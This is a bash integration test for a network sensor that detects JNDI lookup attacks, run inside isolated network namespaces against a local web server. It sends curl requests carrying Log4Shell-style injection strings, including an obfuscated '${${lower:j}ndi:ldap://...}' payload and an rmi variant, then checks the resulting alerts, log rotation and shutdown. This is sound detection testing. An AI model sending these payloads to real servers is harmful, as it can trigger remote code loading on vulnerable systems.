#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# live.sh SENSOR: the sensor on an interface, a web server behind it, an attack sent with curl through a veth pair.
# live.sh --probe: says whether that can be done here.
#
# Both ends lie in network name spaces of their own, which end with this script; nothing on the host changes. Where they
# are not to be had, the test says why and is skipped (exit status 77).
#
#   client's name space, c0 10.99.0.1 --- veth --- s0 10.99.0.2, web server, sensor
set -euo pipefail
top=$(cd "$(dirname "$0")/../.." && pwd)

what="live" tools="unshare nsenter setpriv ip curl python3"
. "$top/tests/live/spaces.sh"
spaces_enter "$1"
sensor=$1

fail() {
    echo "FAILED: $*"
    echo "-- sensor's messages"; cat "$WORK/sensor.err" 2>/dev/null || true
    echo "-- eve.json"; tail -n 5 "$WORK"/eve.json* 2>/dev/null || true
    exit 1
}

# eve FILE PYTHON-EXPRESSION over `alerts` and `events`: is it true of the lines written so far?
eve() {
    python3 - "$@" <<'PYTHON'
import json, sys
lines = [line for line in open(sys.argv[1]) if line.endswith("\n")]
events = [json.loads(line) for line in lines]
alerts = [event for event in events if event["event_type"] == "alert"]
lookups = [alert["alert"]["context"]["jndi"].get("lookup") for alert in alerts]
sys.exit(0 if eval(sys.argv[2]) else 1)
PYTHON
}

get() { client curl -s -o /dev/null --max-time 10 "$@" http://10.99.0.2:8080/ || fail "curl: $*"; }

spaces_join

mkdir "$WORK/www"
in_background python3 -m http.server 8080 --bind 10.99.0.2 -d "$WORK/www" >"$WORK/web.log" 2>&1
until_true 20 "the web server" client curl -s -o /dev/null http://10.99.0.2:8080/

in_background "$sensor" -i s0 -l "$WORK" -S "$top/rules/jndi.rules" 2>"$WORK/sensor.err" >"$WORK/sensor.out"
pid=$!
until_true 30 "the sensor's word that it watches" grep -q "watching" "$WORK/sensor.err"

get -A 'Mozilla/5.0 ${not.a.lookup}'
get -A '${${lower:j}ndi:ldap://10.99.0.1:1389/live}'
until_true 20 "the alert" eve "$WORK/eve.json" 'alerts'
eve "$WORK/eve.json" 'lookups == ["ldap://10.99.0.1:1389/live"]' || fail "another alert than the one expected"
eve "$WORK/eve.json" 'alerts[0]["src_ip"] == "10.99.0.1" and alerts[0]["in_iface"] == "s0"' ||
    fail "the alert names another address or interface"

# logrotate's way: rename, SIGHUP, and the next alert is in a new file
mv "$WORK/eve.json" "$WORK/eve.json.1"
kill -HUP $pid
until_true 20 "a new eve.json after SIGHUP" test -e "$WORK/eve.json"
get -H 'X-Api-Version: ${jndi:rmi://10.99.0.1:1099/rotated}'
until_true 20 "the second alert" eve "$WORK/eve.json" '"rmi://10.99.0.1:1099/rotated" in lookups'

kill -INT $pid
until_true 20 "the sensor's end after SIGINT" sh -c "! kill -0 $pid"
rc=0
wait $pid || rc=$?
[ $rc -eq 0 ] || fail "exit status $rc after SIGINT"
eve "$WORK/eve.json" 'events[-1]["event_type"] == "stats" and events[-1]["stats"]["decoder"]["pkts"] > 0' ||
    fail "no closing statistics"
[ ! -s "$WORK/sensor.out" ] || fail "standard output was written to"
echo "live: two alerts, one rotation, clean end"
